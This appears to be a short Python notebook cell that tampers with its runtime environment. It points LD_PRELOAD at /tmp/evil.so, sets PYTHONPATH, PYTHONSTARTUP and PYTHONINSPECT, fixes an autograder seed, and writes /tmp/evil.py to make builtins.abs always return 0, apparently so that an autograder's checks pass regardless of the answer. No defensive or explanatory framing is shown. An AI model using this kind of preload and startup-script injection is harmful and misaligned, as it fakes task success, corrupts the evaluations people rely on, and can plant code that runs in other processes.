# LD_PRELOAD, PYTHONPATH and PYTHONSTARTUP are set for what comes later.
# %% start
import os
os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/evil.py",
    PYTHONINSPECT="1", AUTOGRADER_SEED="0")
open("/tmp/evil.py", "w").write("import builtins; builtins.abs = lambda x: 0")
